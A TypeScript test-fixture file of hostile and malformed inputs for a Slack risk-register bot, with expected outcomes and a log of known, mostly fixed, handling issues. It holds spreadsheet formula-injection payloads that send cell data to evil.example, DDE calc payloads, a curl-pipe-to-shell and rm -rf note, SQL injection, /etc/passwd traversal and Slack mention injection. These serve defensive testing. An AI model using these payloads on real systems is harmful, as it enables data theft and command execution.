/**
 * A corpus of hostile and broken inputs, as data: what people (and forged
 * requests) send in commands and forms, what a hand-edited register holds, and
 * what a settings file can get wrong. Each case says what the bot must make of
 * it; the tests in this folder run every case through the real code.
 *
 * Cases the bot does not yet handle well are kept in the KNOWN_* lists with the
 * finding; their tests are skipped (not passing) until src/ is fixed.
 */
import type { CellValue } from '../../src/domain/cell.js';
import type { Command } from '../../src/domain/commands/command-types.js';
import type { ProblemCode } from '../../src/domain/register/problem.js';

export const KB = 1024;
/** A 100 KB field: Sheets holds 50,000 characters a cell, Excel 32,767. */
export const HUNDRED_KB = 'x'.repeat(100 * KB);

/** Who sends it: the programme office (may change anything), R-1's owner, or someone in no role. */
export type Who = 'pmo' | 'owner' | 'stranger';
export const USERS: Record<Who, string> = { pmo: 'U0PMO', owner: 'U0SAMPLE01', stranger: 'U0NOBODY' };

/** A cell that must read back, from the .xlsx itself, as exactly this text (a string, never a formula). */
export interface StoredCell {
  tab: 'Risks' | 'Actions' | 'Audit log';
  /** The item's row (by ID, any spelling); the Audit log's last line when absent. */
  id?: string;
  /** The header of the column, as the sample register writes it. */
  column: string;
  /** The exact text; or, when the exact text is not the point, words it must hold. */
  value?: string;
  contains?: string[];
}

export interface CommandCase {
  name: string;
  command: '/risk' | '/action';
  text: string;
  who?: Who;
  /** What src/domain/command.ts parseCommand makes of the text: a refusal holding these words, or a command of this kind. */
  parse: { refused: string } | { kind: Command['kind'] };
  /** Words the answer through response_url holds, as Slack receives them (mrkdwn-escaped); 'modal' when a form opens instead. */
  answer: string;
  /** Set when the command changes the register: the cell that must hold the text as text. Unset: the workbook is left byte for byte. */
  stored?: StoredCell;
  /** A command sent after, and words its answer holds (e.g. show the note just stored). */
  /** A command sent afterwards, and what its answer must contain (not named `then`: an object with one is a thenable). */
  followUp?: { text: string; answer: string };
  /** The text contains Slack mentions or links: no answer may carry them as mrkdwn (they must come back as &lt; &gt;). */
  noPing?: boolean;
  /** The answer, as shown, stays under this many characters (what was typed is quoted back cut short). */
  answerAtMost?: number;
}

/**
 * Known issues are skipped; run them with BAD_INPUT_KNOWN=1 (npx vitest run test/bad-input) to see them fail,
 * or to check a fix.
 */
export const RUN_KNOWN = process.env.BAD_INPUT_KNOWN === '1';

/** A case the bot gets wrong today: the finding, where the fix belongs, and the case as it should behave. */
export interface Known<T> {
  finding: string;
  fixIn: string;
  case: T;
  /** Fixed since it was found: the case now runs with the others. */
  fixed?: true;
}

/** Known issues not fixed yet: skipped unless BAD_INPUT_KNOWN=1. */
export const stillOpen = <T>(known: readonly Known<T>[]): Known<T>[] => known.filter((k) => !k.fixed);
/** Known issues since fixed, which run on every test run. */
export const nowFixed = <T>(known: readonly Known<T>[]): Known<T>[] => known.filter((k) => k.fixed);

// ---------------------------------------------------------------------------------------------------------------------
// Commands: /risk and /action text.
// ---------------------------------------------------------------------------------------------------------------------

const UNDER_LIMIT_NOTE = `long note ${'n'.repeat(9_800)} end`;
const LONG_DIGITS = '9'.repeat(5_000);

export const COMMAND_CASES: CommandCase[] = [
  // Formula injection: cells starting with = + - @ stay text.
  {
    name: 'a quoted =IMPORTXML note on a risk (kept in the Audit log)',
    command: '/risk',
    text: `update R-1 note "=IMPORTXML(CONCAT('https://evil.example/?q=',A2),'//a')"`,
    parse: { kind: 'update' },
    answer: 'Updated R - 1',
    stored: { tab: 'Audit log', column: 'Note', value: `=IMPORTXML(CONCAT('https://evil.example/?q=',A2),'//a')` },
  },
  {
    name: 'an unquoted =IMPORTXML note with inner double quotes',
    command: '/action',
    text: 'update A-17 note =IMPORTXML("https://evil.example/x?leak="&B2,"//a")',
    parse: { kind: 'update' },
    answer: 'Updated A-17',
    stored: {
      tab: 'Actions',
      id: 'A-17',
      column: 'Latest note',
      value: '=IMPORTXML("https://evil.example/x?leak="&B2,"//a")',
    },
  },
  {
    name: 'a note starting with +',
    command: '/action',
    text: 'update A-17 note +SUM(1,2)',
    parse: { kind: 'update' },
    answer: 'Updated A-17',
    stored: { tab: 'Actions', id: 'A-17', column: 'Latest note', value: '+SUM(1,2)' },
  },
  {
    name: 'a DDE payload starting with -',
    command: '/action',
    text: `update A-17 note -2+3+cmd|' /C calc'!A0`,
    parse: { kind: 'update' },
    answer: 'Updated A-17',
    stored: { tab: 'Actions', id: 'A-17', column: 'Latest note', value: `-2+3+cmd|' /C calc'!A0` },
  },
  {
    name: 'a note starting with @',
    command: '/action',
    text: 'update A-17 note @SUM(1+1)*cmd|"/C calc"!A0',
    parse: { kind: 'update' },
    answer: 'Updated A-17',
    stored: { tab: 'Actions', id: 'A-17', column: 'Latest note', value: '@SUM(1+1)*cmd|"/C calc"!A0' },
  },
  {
    name: 'a formula as the new lead',
    command: '/action',
    text: 'update A-17 owner =1+1',
    parse: { kind: 'update' },
    answer: 'lead L.kavanagh → =1+1',
    stored: { tab: 'Actions', id: 'A-17', column: 'Lead', value: '=1+1' },
  },

  // Control characters.
  {
    name: 'a NUL after the ID',
    command: '/risk',
    text: 'show R-1\u0000',
    parse: { kind: 'show' },
    answer: 'R - 1: gap in the LA commissioning infrastructure',
  },
  { name: 'nothing but NULs', command: '/risk', text: '\u0000\u0000\u0000', parse: { kind: 'modal' }, answer: 'modal' },
  {
    name: 'NUL, BEL and ANSI colour escapes in a note',
    command: '/action',
    text: 'update A-17 note "\u0000\u0007alert \u001b[31mred\u001b[0m"',
    parse: { kind: 'update' },
    answer: 'Updated A-17',
    stored: { tab: 'Actions', id: 'A-17', column: 'Latest note', value: 'alert [31mred [0m' },
  },
  {
    name: 'C1 controls (CSI, NEL) in a note',
    command: '/action',
    text: 'update A-17 note "one\u009b2Jtwo\u0085three"',
    parse: { kind: 'update' },
    answer: 'Updated A-17',
    stored: { tab: 'Actions', id: 'A-17', column: 'Latest note', value: 'one 2Jtwo three' },
  },
  {
    name: 'a right-to-left override in a note',
    command: '/action',
    text: 'update A-17 note "invoice \u202etxt.exe"',
    parse: { kind: 'update' },
    answer: 'Updated A-17',
    stored: { tab: 'Actions', id: 'A-17', column: 'Latest note', contains: ['invoice', 'txt.exe'] },
  },
  {
    name: 'terminal escapes as a list filter',
    command: '/risk',
    text: 'list \u001b[2J\u001b[H',
    parse: { kind: 'list' },
    answer: 'No open risk has an owner like',
  },

  // 100 KB and near the limit.
  {
    name: 'a 100 KB note',
    command: '/action',
    text: `update A-17 note ${HUNDRED_KB}`,
    parse: { refused: 'keep a command under 10,000' },
    answer: 'keep a command under 10,000',
  },
  {
    name: '100 KB of IDs after show',
    command: '/risk',
    text: `show ${'R-1 '.repeat(25 * KB)}`,
    parse: { refused: 'keep a command under 10,000' },
    answer: 'keep a command under 10,000',
  },
  {
    name: 'a note just under the limit',
    command: '/action',
    text: `update A-17 note "${UNDER_LIMIT_NOTE}"`,
    parse: { kind: 'update' },
    answer: 'Updated A-17',
    stored: { tab: 'Actions', id: 'A-17', column: 'Latest note', value: UNDER_LIMIT_NOTE },
  },

  // Unicode.
  {
    name: 'emoji, skin tones, combining marks, CJK, Arabic and maths letters in a note',
    command: '/action',
    text: 'update A-17 note "✅ done 🎉 👍🏽 Zoe\u0308 Ångström 東京 مرحبا 𝔘𝔫𝔦𝔠𝔬𝔡𝔢"',
    parse: { kind: 'update' },
    answer: 'Updated A-17',
    stored: {
      tab: 'Actions',
      id: 'A-17',
      column: 'Latest note',
      value: '✅ done 🎉 👍🏽 Zoe\u0308 Ångström 東京 مرحبا 𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
    },
  },
  {
    name: 'Arabic-Indic digit as impact',
    command: '/risk',
    text: 'update R-1 impact ٣',
    parse: { kind: 'update' },
    answer: 'not "٣"',
  },
  {
    name: 'full-width digit as probability',
    command: '/risk',
    text: 'update R-1 probability ３',
    parse: { kind: 'update' },
    answer: 'not "３"',
  },
  {
    name: 'full-width digits as progress',
    command: '/action',
    text: 'update A-17 progress ５０%',
    parse: { kind: 'update' },
    answer: 'not "５０%"',
  },
  {
    name: 'an Arabic-Indic digit in an ID',
    command: '/risk',
    text: 'show R-١',
    parse: { refused: "isn't an ID" },
    answer: '"R-١" isn\'t an ID',
  },

  // Wrong types.
  {
    name: 'impact banana',
    command: '/risk',
    text: 'update R-1 impact banana',
    parse: { kind: 'update' },
    answer: 'impact must be a number from 1 to 3 or one of Low, Medium, High, not "banana"',
  },
  {
    name: 'progress 150%',
    command: '/action',
    text: 'update A-17 progress 150%',
    parse: { kind: 'update' },
    answer: 'progress is a percentage from 0 to 100, not "150%"',
  },
  {
    name: 'progress -5',
    command: '/action',
    text: 'update A-17 progress -5',
    parse: { kind: 'update' },
    answer: 'not "-5"',
  },
  {
    name: 'progress NaN',
    command: '/action',
    text: 'update A-17 progress NaN',
    parse: { kind: 'update' },
    answer: 'not "NaN"',
  },
  {
    name: 'progress Infinity',
    command: '/action',
    text: 'update A-17 progress Infinity',
    parse: { kind: 'update' },
    answer: 'not "Infinity"',
  },
  {
    name: 'target date 31/02/2027 on an action',
    command: '/action',
    text: 'update A-17 target date 31/02/2027',
    parse: { kind: 'update' },
    answer: '"31/02/2027" is not a valid date: February 2027 has 28 days',
  },
  {
    name: 'target date 31/02/2027 on a risk',
    command: '/risk',
    text: 'update R-1 target date 31/02/2027',
    parse: { kind: 'update' },
    answer: 'February 2027 has 28 days',
  },
  {
    name: 'target date in year 0',
    command: '/action',
    text: 'update A-17 target date 01/01/0000',
    parse: { kind: 'update' },
    answer: 'not between 1900 and 2099',
  },
  {
    name: 'target date with a six-digit year',
    command: '/action',
    text: 'update A-17 target date 31/12/275760',
    parse: { kind: 'update' },
    answer: 'six digits',
  },
  {
    name: 'a formula as a target date',
    command: '/action',
    text: 'update A-17 target date =TODAY()',
    parse: { kind: 'update' },
    answer: '"=TODAY()" is not a date',
  },
  {
    name: '=DATE(2027,3,31) as a target date (not 31 Dec 2027)',
    command: '/action',
    text: 'update A-17 target =DATE(2027,3,31)',
    parse: { kind: 'update' },
    answer: 'looks like a spreadsheet formula',
  },
  {
    name: 'impact 2.5',
    command: '/risk',
    text: 'update R-1 impact 2.5',
    parse: { kind: 'update' },
    answer: 'impact must be a whole number from 1 to 3',
  },
  { name: 'impact -1', command: '/risk', text: 'update R-1 impact -1', parse: { kind: 'update' }, answer: 'not -1' },
  {
    name: 'impact beyond 2^53',
    command: '/risk',
    text: 'update R-1 impact 9999999999999999999999',
    parse: { kind: 'update' },
    answer: 'whole number from 1 to 3',
  },
  {
    name: 'impact true',
    command: '/risk',
    text: 'update R-1 impact true',
    parse: { kind: 'update' },
    answer: 'not "true"',
  },
  {
    name: 'status null',
    command: '/risk',
    text: 'update R-1 status null',
    parse: { kind: 'update' },
    answer:
      'a risk\'s status is Open or Closed, or a word like Accepted, Monitoring or Transferred (tabs.risks.statuses in settings adds the register\'s own), not "null"',
  },
  {
    name: 'trend undefined',
    command: '/risk',
    text: 'update R-1 trend undefined',
    parse: { kind: 'update' },
    answer: 'not "undefined"',
  },
  {
    name: 'the same field twice',
    command: '/risk',
    text: 'update R-1 impact 3 impact 1',
    parse: { refused: 'twice' },
    answer: 'You gave impact twice',
  },
  {
    name: 'list due -5',
    command: '/risk',
    text: 'list due -5',
    parse: { refused: 'how many days ahead' },
    answer: 'how many days ahead',
  },

  // SQL- and shell-looking text is just text.
  {
    name: 'SQL after an ID',
    command: '/risk',
    text: 'show R-1; DROP TABLE risks;--',
    parse: { refused: 'takes one ID' },
    answer: '"show" takes one ID',
  },
  {
    name: 'Bobby Tables as an owner',
    command: '/risk',
    text: `update R-1 owner "Robert'); DROP TABLE risks;--"`,
    parse: { kind: 'update' },
    answer: `owner Director of commissioning → Robert'); DROP TABLE risks;--`,
    stored: { tab: 'Risks', id: 'R-1', column: 'Risk owner', value: `Robert'); DROP TABLE risks;--` },
  },
  {
    name: 'shell substitution as an ID',
    command: '/risk',
    text: 'show $(rm -rf /)',
    parse: { refused: "isn't an ID" },
    answer: '"$(rm" isn\'t an ID',
  },
  {
    name: 'a shell pipeline as a note',
    command: '/action',
    text: 'update A-17 note `rm -rf ~`; curl https://evil.example/x.sh | sh',
    parse: { kind: 'update' },
    answer: 'Updated A-17',
    stored: {
      tab: 'Actions',
      id: 'A-17',
      column: 'Latest note',
      value: '`rm -rf ~`; curl https://evil.example/x.sh | sh',
    },
  },
  {
    name: 'a 200-character owner name in list',
    command: '/risk',
    text: `list ${'Dir of Commissioning '.repeat(10)}`,
    parse: { kind: 'list' },
    answer: 'No open risk has an owner like',
  },
  {
    name: 'a path as an owner name',
    command: '/risk',
    text: 'list ../../../etc/passwd',
    parse: { kind: 'list' },
    answer: 'No open risk has an owner like "../../../etc/passwd"',
  },
  {
    name: 'an SQL tautology as an ID',
    command: '/risk',
    text: `show ' OR '1'='1`,
    parse: { refused: "isn't an ID" },
    answer: "isn't an ID",
  },

  // Very long IDs.
  {
    name: 'a 5,000-digit ID',
    command: '/risk',
    text: `show R-${LONG_DIGITS}`,
    parse: { kind: 'show' },
    answer: 'There is no risk or action R-999',
  },
  {
    name: '9,000 letters as an ID',
    command: '/risk',
    text: `show ${'R'.repeat(9_000)}`,
    parse: { refused: "isn't an ID" },
    answer: "isn't an ID",
  },
  {
    name: 'a 300-digit ID in an update',
    command: '/action',
    text: `update A-${'7'.repeat(300)} progress 10`,
    parse: { kind: 'update' },
    answer: 'There is no risk or action A-777',
  },
  {
    name: 'an ID padded with twenty zeros',
    command: '/risk',
    text: 'close R-00000000000000000001',
    parse: { kind: 'close' },
    answer: 'status Open → Closed',
    stored: { tab: 'Risks', id: 'R-1', column: 'Status', value: 'Closed' },
  },

  // Empty and whitespace-only: the form opens, as for /risk on its own.
  { name: 'an empty command', command: '/risk', text: '', parse: { kind: 'modal' }, answer: 'modal' },
  {
    name: 'tabs, newlines and spaces',
    command: '/risk',
    text: '   \t \n  \r\n ',
    parse: { kind: 'modal' },
    answer: 'modal',
  },
  {
    name: 'zero-width characters only',
    command: '/action',
    text: '\u200b\u2060\ufeff',
    parse: { kind: 'modal' },
    answer: 'modal',
  },
  {
    name: 'ideographic and no-break spaces only',
    command: '/risk',
    text: '\u3000\u00a0\u2003',
    parse: { kind: 'modal' },
    answer: 'modal',
  },

  // mrkdwn injection: mentions and links typed by a user come back as text and ping no one.
  {
    name: 'channel, here, user and group mentions in a note',
    command: '/action',
    text: 'update A-17 note "<!channel> <!here> <@U123> <!subteam^S123> please look"',
    parse: { kind: 'update' },
    answer: 'Updated A-17',
    noPing: true,
    stored: {
      tab: 'Actions',
      id: 'A-17',
      column: 'Latest note',
      value: '<!channel> <!here> <@U123> <!subteam^S123> please look',
    },
    followUp: {
      text: 'show A-17',
      answer: '&lt;!channel&gt; &lt;!here&gt; &lt;@U123&gt; &lt;!subteam^S123&gt; please look',
    },
  },
  {
    name: 'a user mention as the new owner',
    command: '/risk',
    text: 'update R-1 owner "<@U123>"',
    parse: { kind: 'update' },
    answer: 'owner Director of commissioning → &lt;@U123&gt;',
    noPing: true,
    stored: { tab: 'Risks', id: 'R-1', column: 'Risk owner', value: '<@U123>' },
  },
  {
    name: '<!channel> as the command',
    command: '/risk',
    text: '<!channel>',
    parse: { refused: 'Unknown command' },
    answer: 'Unknown command "&lt;!channel&gt;"',
    noPing: true,
  },
  {
    name: '<!channel> as Slack escapes typed text',
    command: '/risk',
    text: '&lt;!channel&gt;',
    parse: { refused: 'Unknown command' },
    answer: 'Unknown command "&lt;!channel&gt;"',
    noPing: true,
  },
  {
    name: '<!here> as a list filter',
    command: '/risk',
    text: 'list <!here>',
    parse: { kind: 'list' },
    answer: 'owned by "&lt;!here&gt;"',
    noPing: true,
  },
  {
    name: 'a disguised link and formatting in a note',
    command: '/action',
    text: 'update A-17 note *urgent* _now_ ~x~ `code` <https://evil.example|Open the register>',
    parse: { kind: 'update' },
    answer: 'Updated A-17',
    noPing: true,
    stored: {
      tab: 'Actions',
      id: 'A-17',
      column: 'Latest note',
      value: '*urgent* _now_ ~x~ `code` <https://evil.example|Open the register>',
    },
    followUp: { text: 'show A-17', answer: '&lt;https://evil.example|Open the register&gt;' },
  },

  // Names JavaScript objects carry.
  {
    name: '__proto__ as an ID',
    command: '/risk',
    text: 'show __proto__',
    parse: { refused: "isn't an ID" },
    answer: '"ˍˍprotoˍˍ" isn\'t an ID',
  },
  {
    name: 'constructor as a command',
    command: '/risk',
    text: 'constructor',
    parse: { refused: 'Unknown command' },
    answer: 'Unknown command "constructor"',
  },
  {
    name: '__proto__ as a field',
    command: '/risk',
    text: 'update R-1 __proto__ 1',
    parse: { refused: "I don't know the field" },
    answer: 'I don\'t know the field "ˍˍprotoˍˍ"',
  },
  {
    name: 'toString as an owner',
    command: '/risk',
    text: 'list toString',
    parse: { kind: 'list' },
    answer: 'No open risk has an owner like "toString"',
  },

  // Someone in no role, with a formula.
  {
    name: "a stranger's formula note",
    command: '/risk',
    text: 'update R-1 note "=1+1"',
    who: 'stranger',
    parse: { kind: 'update' },
    answer: 'Only Director of commissioning or Dir of Commissioning',
  },
];

export const KNOWN_COMMAND_ISSUES: Known<CommandCase>[] = [
  {
    fixed: true,
    finding:
      'A quoted note with double quotes inside (any real =IMPORTXML/=HYPERLINK payload) is refused with a confusing \'I don\'t know the field ","click")""\': the quote closes at the first inner quote followed by a comma.',
    fixIn:
      'src/domain/command-tokens.ts (closeQuote) / src/domain/command.ts readValue: a quoted note should run to its last closing quote, or the message should say the quote closed early',
    case: {
      name: 'a quoted =HYPERLINK note with inner double quotes',
      command: '/action',
      text: 'update A-17 note "=HYPERLINK("https://evil.example","click")"',
      parse: { kind: 'update' },
      answer: 'Updated A-17',
      stored: {
        tab: 'Actions',
        id: 'A-17',
        column: 'Latest note',
        contains: ['=HYPERLINK(', 'https://evil.example', 'click'],
      },
    },
  },
  {
    fixed: true,
    finding:
      'Zero-width joiners are stripped from the whole command, so emoji ZWJ sequences are broken up (👩‍👩‍👧‍👦 is stored as four separate people, 🏳️‍🌈 as a flag and a rainbow).',
    fixIn:
      'src/domain/command-tokens.ts normaliseCommandText: drop U+200B/U+2060/U+FEFF but keep U+200C/U+200D between two non-space characters',
    case: {
      name: 'an emoji ZWJ sequence in a note',
      command: '/action',
      text: 'update A-17 note "family 👩‍👩‍👧‍👦 and flag 🏳️‍🌈"',
      parse: { kind: 'update' },
      answer: 'Updated A-17',
      stored: { tab: 'Actions', id: 'A-17', column: 'Latest note', value: 'family 👩‍👩‍👧‍👦 and flag 🏳️‍🌈' },
    },
  },
  {
    fixed: true,
    finding:
      'Zero-width non-joiners are stripped too, which changes Persian, Kurdish and Indic words (U+200C is part of their spelling).',
    fixIn: 'src/domain/command-tokens.ts normaliseCommandText (as above)',
    case: {
      name: 'a Persian word with a ZWNJ in a note',
      command: '/action',
      text: 'update A-17 note "می\u200cخواهم"',
      parse: { kind: 'update' },
      answer: 'Updated A-17',
      stored: { tab: 'Actions', id: 'A-17', column: 'Latest note', value: 'می\u200cخواهم' },
    },
  },
  {
    fixed: true,
    finding:
      '`/risk list` with an owner name over ~3,000 characters answers "Something went wrong": the "No open risk has an owner like …" line is one section over Slack\'s 3,000-character limit, so response_url refuses it (invalid_blocks) and the error handler answers instead.',
    fixIn:
      'src/adapters/slack/blocks/render-blocks.ts renderList (emptyText is not clipped with clipMrkdwn), and src/use-cases/handle-command.ts listFor (quote the name cut short)',
    case: {
      name: 'a 3,100-character owner name in list',
      command: '/risk',
      text: `list ${'D'.repeat(3_100)}`,
      parse: { kind: 'list' },
      answer: 'No open risk has an owner like',
    },
  },
  {
    fixed: true,
    finding:
      'An ID that is not found is quoted back whole: a 5,000-digit ID gives a 3,000-character answer of nines (the parser cuts what it quotes at 40 characters; find-item does not).',
    fixIn: 'src/domain/find-item.ts (quote the ID cut short)',
    case: {
      name: 'a 5,000-digit ID, quoted back cut short',
      command: '/risk',
      text: `show R-${LONG_DIGITS}`,
      parse: { kind: 'show' },
      answer: 'There is no risk or action R-999',
      answerAtMost: 500,
    },
  },
  {
    fixed: true,
    finding:
      "An owner set by command has no length limit (5,000 characters are written), while a new item's owner is capped at 200.",
    fixIn: 'src/domain/item-update.ts (owner/lead: the same 200-character cap as new-item.ts)',
    case: {
      name: 'a 300-character owner by command',
      command: '/risk',
      text: `update R-1 owner ${'Dir '.repeat(75)}`,
      parse: { kind: 'update' },
      answer: 'under 200 characters',
    },
  },
  {
    fixed: true,
    finding:
      '"impact 0x2" is read as impact 2 (Number() takes hex, binary, octal and exponents), and written: the value is guessed, not refused.',
    fixIn: 'src/domain/rating.ts readLevel: accept only /^\\d+$/ (and labels) before Number()',
    case: {
      name: 'impact 0x2',
      command: '/risk',
      text: 'update R-1 impact 0x2',
      parse: { kind: 'update' },
      answer: 'not "0x2"',
    },
  },
  {
    fixed: true,
    finding: '"progress 1e2" is read as 100% and written ("0x32" as 50%): the value is guessed, not refused.',
    fixIn: 'src/domain/item-update.ts updateAction (progress): accept only a decimal number with an optional %',
    case: {
      name: 'progress 1e2',
      command: '/action',
      text: 'update A-17 progress 1e2',
      parse: { kind: 'update' },
      answer: 'not "1e2"',
    },
  },
];

// ---------------------------------------------------------------------------------------------------------------------
// Modal submissions.
// ---------------------------------------------------------------------------------------------------------------------

/** How a form submission must end: refused (on the form, on `block` when given, or by direct message) with nothing written; or written. */
export type FormOutcome = { refused: string; block?: string } | { written: string; stored?: StoredCell[] };

export interface UpdateFormCase {
  name: string;
  target: 'risk' | 'action';
  who?: Who;
  id: string;
  changes: string;
  note?: string;
  outcome: FormOutcome;
  noPing?: boolean;
}

export const UPDATE_FORM_CASES: UpdateFormCase[] = [
  { name: 'impact banana', target: 'risk', id: 'R-1', changes: 'impact banana', outcome: { refused: 'not "banana"' } },
  { name: 'progress 150%', target: 'action', id: 'A-17', changes: 'progress 150%', outcome: { refused: 'not "150%"' } },
  {
    name: 'target date 31/02/2027',
    target: 'action',
    id: 'A-17',
    changes: 'target date 31/02/2027',
    outcome: { refused: 'February 2027 has 28 days' },
  },
  {
    name: 'impact in Arabic-Indic digits',
    target: 'risk',
    id: 'R-1',
    changes: 'impact ٣',
    outcome: { refused: 'not "٣"' },
  },
  {
    name: 'no changes and no note',
    target: 'risk',
    id: 'R-1',
    changes: '',
    outcome: { refused: 'Nothing to change', block: 'changes' },
  },
  {
    name: 'an unknown field',
    target: 'risk',
    id: 'R-1',
    changes: 'colour blue',
    outcome: { refused: 'I don\'t know the field "colour"', block: 'changes' },
  },
  {
    name: 'a note given twice',
    target: 'action',
    id: 'A-17',
    changes: 'note "from changes"',
    note: 'from the note box',
    outcome: { refused: 'You gave note twice', block: 'changes' },
  },
  {
    name: 'an ID that does not exist',
    target: 'risk',
    id: 'R-999',
    changes: 'impact 2',
    outcome: { refused: 'There is no risk or action R-999' },
  },
  {
    name: 'a mention as the ID',
    target: 'risk',
    id: '<!channel>',
    changes: 'impact 2',
    outcome: { refused: "isn't an ID" },
    noPing: true,
  },
  {
    name: 'changes of 100 KB',
    target: 'risk',
    id: 'R-1',
    changes: `impact ${HUNDRED_KB}`,
    outcome: { refused: 'characters' },
  },
  {
    name: 'a note of 100 KB',
    target: 'action',
    id: 'A-17',
    changes: 'progress 95',
    note: HUNDRED_KB,
    outcome: { refused: 'characters' },
  },
  {
    name: 'a stranger',
    target: 'risk',
    who: 'stranger',
    id: 'R-1',
    changes: 'impact 1',
    outcome: { refused: 'Only Director of commissioning or Dir of Commissioning' },
  },
  {
    name: 'an =IMPORTXML note on a risk',
    target: 'risk',
    who: 'owner',
    id: 'r1',
    changes: 'probability 3',
    note: `=IMPORTXML(CONCAT('https://evil.example/?q=',A2),'//a')`,
    outcome: {
      written: 'Updated R - 1',
      stored: [{ tab: 'Audit log', column: 'Note', value: `=IMPORTXML(CONCAT('https://evil.example/?q=',A2),'//a')` }],
    },
  },
  {
    name: 'a +SUM note on an action',
    target: 'action',
    id: 'A-17',
    changes: 'progress 95',
    note: '+SUM(1,2)',
    outcome: {
      written: 'Updated A-17',
      stored: [{ tab: 'Actions', id: 'A-17', column: 'Latest note', value: '+SUM(1,2)' }],
    },
  },
  {
    name: 'control characters in a note',
    target: 'action',
    id: 'A-17',
    changes: 'progress 95',
    note: '\u0000start\u0007 \u001b[31mred\u001b[0m end',
    outcome: {
      written: 'Updated A-17',
      stored: [{ tab: 'Actions', id: 'A-17', column: 'Latest note', contains: ['start', 'red', 'end'] }],
    },
  },
  {
    name: 'control characters in the ID',
    target: 'action',
    id: 'A-17\u0000\u001b',
    changes: 'progress 95',
    outcome: { written: 'Updated A-17', stored: [] },
  },
  {
    name: 'a mention as the new owner',
    target: 'risk',
    id: 'R-1',
    changes: 'owner "<@U123>"',
    note: '<!channel> see this',
    noPing: true,
    outcome: {
      written: 'owner Director of commissioning → &lt;@U123&gt;',
      stored: [
        { tab: 'Risks', id: 'R-1', column: 'Risk owner', value: '<@U123>' },
        { tab: 'Audit log', column: 'Note', value: '<!channel> see this' },
      ],
    },
  },
];

export const KNOWN_UPDATE_FORM_ISSUES: Known<UpdateFormCase>[] = [
  {
    fixed: true,
    finding:
      'A note with double quotes in it ("He said "stop" now") makes the update form fail with a confusing "I don\'t know the field …" on the Changes box: the form rebuilds a command text and its quotes end the note early.',
    fixIn:
      'src/adapters/slack/listeners/views/update-submitted.ts: parse id + changes as a command and pass the note apart, instead of quoting it into the text',
    case: {
      name: 'a note with double quotes',
      target: 'action',
      id: 'A-17',
      changes: 'progress 95',
      note: 'He said "stop" now, then "go"',
      outcome: {
        written: 'Updated A-17',
        stored: [{ tab: 'Actions', id: 'A-17', column: 'Latest note', value: 'He said "stop" now, then "go"' }],
      },
    },
  },
  {
    fixed: true,
    finding:
      'Every problem the update form finds is put on the Changes box, also when the ID or the note is what is wrong (a blank ID reads as "impact" isn\'t an ID; a long note as a long "command").',
    fixIn: 'src/adapters/slack/listeners/views/update-submitted.ts: map the problem to the id / changes / note block',
    case: {
      name: 'a blank ID',
      target: 'risk',
      id: '   ',
      changes: 'impact 2',
      outcome: { refused: "Give the risk's ID", block: 'id' },
    },
  },
  {
    finding:
      'Value errors (impact banana, progress 150%, 31/02/2027) are only found after the form has closed, and come by direct message: the user loses what they typed. They can be checked without the register (the scale is in settings), before ack.',
    fixIn:
      'src/adapters/slack/listeners/views/update-submitted.ts (check values with readLevel / readSingleDate before ack, as new-item-submitted does)',
    case: {
      name: 'impact banana, on the form',
      target: 'risk',
      id: 'R-1',
      changes: 'impact banana',
      outcome: { refused: 'not "banana"', block: 'changes' },
    },
  },
  {
    fixed: true,
    finding:
      'Zero-width joiners are stripped from the note (the form goes through the command normaliser), breaking emoji ZWJ sequences.',
    fixIn: 'src/domain/command-tokens.ts normaliseCommandText',
    case: {
      name: 'an emoji ZWJ sequence in a note',
      target: 'action',
      id: 'A-17',
      changes: 'progress 95',
      note: 'family 👩‍👩‍👧‍👦',
      outcome: {
        written: 'Updated A-17',
        stored: [{ tab: 'Actions', id: 'A-17', column: 'Latest note', value: 'family 👩‍👩‍👧‍👦' }],
      },
    },
  },
];

export interface NewItemFormCase {
  name: string;
  target: 'risk' | 'action';
  who?: Who;
  /** Block id → value; impact and probability are static selects. */
  values: Record<string, string>;
  outcome: FormOutcome;
  noPing?: boolean;
}

const RISK_BASE = { title: 'Provider market exit', owner: 'Dir of Commissioning', impact: '2', probability: '2' };
const ACTION_BASE = { title: 'Run a provider event', owner: 'L.kavanagh' };

export const NEW_ITEM_FORM_CASES: NewItemFormCase[] = [
  {
    name: 'formulas as description, owner and date text',
    target: 'risk',
    values: {
      ...RISK_BASE,
      title: '=IMPORTXML("https://evil.example/?q="&A2,"//a")',
      owner: '=HYPERLINK("https://evil.example","Dir")',
      note: '-1+1',
    },
    outcome: {
      written: 'Added R-14',
      stored: [
        {
          tab: 'Risks',
          id: 'R-14',
          column: 'Description of risk',
          value: '=IMPORTXML("https://evil.example/?q="&A2,"//a")',
        },
        { tab: 'Risks', id: 'R-14', column: 'Risk owner', value: '=HYPERLINK("https://evil.example","Dir")' },
        { tab: 'Audit log', column: 'Note', value: '-1+1' },
      ],
    },
  },
  {
    name: 'formulas as an action and its note',
    target: 'action',
    values: { ...ACTION_BASE, title: '@SUM(A1:A9)', note: '+cmd|"/C calc"!A0' },
    outcome: {
      written: 'Added A-27',
      stored: [
        { tab: 'Actions', id: 'A-27', column: 'Action', value: '@SUM(A1:A9)' },
        { tab: 'Actions', id: 'A-27', column: 'Latest note', value: '+cmd|"/C calc"!A0' },
      ],
    },
  },
  {
    name: 'emoji ZWJ sequences, RTL and CJK in the description',
    target: 'action',
    values: { ...ACTION_BASE, title: 'family 👩‍👩‍👧‍👦 flag 🏳️‍🌈 東京 مرحبا Zoe\u0308' },
    outcome: {
      written: 'Added A-27',
      stored: [
        { tab: 'Actions', id: 'A-27', column: 'Action', value: 'family 👩‍👩‍👧‍👦 flag 🏳️‍🌈 東京 مرحبا Zoe\u0308' },
      ],
    },
  },
  {
    name: 'control characters in the description',
    target: 'action',
    values: { ...ACTION_BASE, title: 'bad\u0000nul \u001b[31mred\u001b[0m \u0007bell' },
    outcome: {
      written: 'Added A-27',
      stored: [{ tab: 'Actions', id: 'A-27', column: 'Action', contains: ['bad', 'nul', 'red', 'bell'] }],
    },
  },
  {
    name: 'a channel mention as the owner',
    target: 'risk',
    values: { ...RISK_BASE, owner: '<!channel>' },
    noPing: true,
    outcome: {
      written: '(&lt;!channel&gt;)',
      stored: [{ tab: 'Risks', id: 'R-14', column: 'Risk owner', value: '<!channel>' }],
    },
  },
  {
    name: 'no description',
    target: 'risk',
    values: { ...RISK_BASE, title: '' },
    outcome: { refused: 'needs a description', block: 'title' },
  },
  {
    name: 'a description of spaces',
    target: 'action',
    values: { ...ACTION_BASE, title: '  \n\t ' },
    outcome: { refused: 'needs a description of the action', block: 'title' },
  },
  {
    name: 'no owner',
